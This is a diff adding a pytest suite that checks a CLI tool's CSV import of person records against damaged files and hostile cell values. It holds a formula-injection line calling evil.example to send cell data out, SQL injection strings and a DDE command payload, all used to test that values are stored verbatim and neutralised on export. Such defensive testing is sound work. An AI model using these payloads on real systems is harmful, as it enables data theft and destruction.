@@ -1,0 +1,90 @@
+"""A corpus of bad or odd files: each is one clear error with file and line, or accepted verbatim; never half-written."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from builders.city import PERSON_COLS, person, write_csv
+from clihelp import fk
+from sqlalchemy import func, select
+from storesnap import snapshot
+
+from fangkong.clikit import unit_of_work
+from fangkong.people.models import Person
+
+
+def persons_bytes(rows: list[dict], *, sep: str = "\n") -> bytes:
+    buf = io.StringIO()
+    w = csv.DictWriter(buf, fieldnames=PERSON_COLS, lineterminator=sep)
+    w.writeheader()
+    w.writerows(rows)
+    return buf.getvalue().encode("utf-8")
+
+
+def names() -> dict[str, str]:
+    with unit_of_work() as s:
+        return dict(s.execute(select(Person.person_id, Person.name)).all())
+
+
+def import_bytes(tmp_path, data: bytes, name: str = "persons.csv"):
+    folder = tmp_path / "bad"
+    folder.mkdir(exist_ok=True)
+    (folder / name).write_bytes(data)
+    return fk("import", folder)
+
+
+def one_error(r, expected: str) -> None:
+    """Exit 1, the expected error on one line of its own, and nothing of the file written."""
+    assert r.exit_code == 1, r.output
+    lines = [x for x in r.output.splitlines() if expected in x]
+    assert lines and lines[0].startswith("error: "), r.output
+    assert "Traceback" not in r.output
+
+
+GOOD = [person(1), person(2), person(3)]
+
+
+@pytest.mark.parametrize("case,data,expected", [
+    ("gbk", "person_id,name\nP1,张三\n".encode("gbk"), "persons.csv:2: file is not UTF-8"),
+    ("cut mid-row", persons_bytes(GOOD)[:-40], "persons.csv:4: malformed CSV (expected 9 fields, found"),
+    ("cut mid-quote", persons_bytes(GOOD) + b'P00009,"\xe4\xba\xba9,1', "persons.csv:5: malformed CSV ("),
+    ("NUL byte", persons_bytes(GOOD).replace("人2".encode(), b"\x00\x00"), "persons.csv:3: NUL byte in a CSV file"),
+    ("ends inside a character", persons_bytes(GOOD)[:-1] + "人".encode()[:2],
+     "persons.csv:4: file ends inside a UTF-8 character"),
+])
+def test_a_damaged_file_is_one_error_with_file_and_line_and_writes_nothing(env, tmp_path, case, data, expected):
+    before = snapshot(env)
+    one_error(import_bytes(tmp_path, data), expected)
+    assert snapshot(env) == before
+
+
+def test_huge_field_is_a_row_error_and_the_other_rows_land(env, tmp_path):
+    rows = [person(1), person(2, name="长" * 10_000_000), person(3)]
+    r = import_bytes(tmp_path, persons_bytes(rows))
+    assert r.exit_code == 1 and "persons.csv:3: name is longer than 100 characters" in r.output, r.output[-2000:]
+    assert set(names()) == {"P00001", "P00003"}
+
+
+def test_text_is_stored_verbatim_and_exports_neutralise_formulas(env, tmp_path):
+    odd = {4: '=HYPERLINK("http://evil.example/?"&A1,"点我")', 5: "+86 138", 6: "-1+1", 7: "@SUM(A1:A9)",
+           8: "'; DROP TABLE person; --", 9: 'Robert"); DELETE FROM venue;--', 10: "  spaced\ttab  "}
+    rows = [person(i, name=n) for i, n in odd.items()]
+    r = import_bytes(tmp_path, b"\xef\xbb\xbf" + persons_bytes(rows, sep="\r\n"))   # a BOM and CRLF: both fine
+    assert r.exit_code == 0, r.output
+    stored = names()
+    assert stored == {f"P{i:05d}": n.strip() for i, n in odd.items()}   # verbatim (cells are trimmed)
+    with unit_of_work() as s:
+        assert s.scalar(select(func.count(Person.id))) == len(odd)       # the table is still there
+    # an export another office opens in a spreadsheet: no cell runs as a formula
+    path = write_csv(tmp_path / "xc.csv", [{"request_id": "X-1", "issuing_jurisdiction": "=cmd|' /C calc'!A0",
+                                            "reason": "密接", "name": n, "id_number": "", "phone": f"139{i:08d}"}
+                                           for i, n in odd.items()],
+                     ["request_id", "issuing_jurisdiction", "reason", "name", "id_number", "phone"])
+    assert fk("assist", "import", path).exit_code == 0
+    out = list(csv.DictReader(io.StringIO(fk("assist", "export", "A000001").stdout)))
+    assert {row["name"] for row in out} == {("'" + n.strip() if n.strip()[0] in "=+-@" else n.strip())
+                                            for n in odd.values()}
+    assert {row["issuing_jurisdiction"] for row in out} == {"'=cmd|' /C calc'!A0"}
+    assert not any(v[:1] in "=+-@" for row in out for v in row.values() if v)
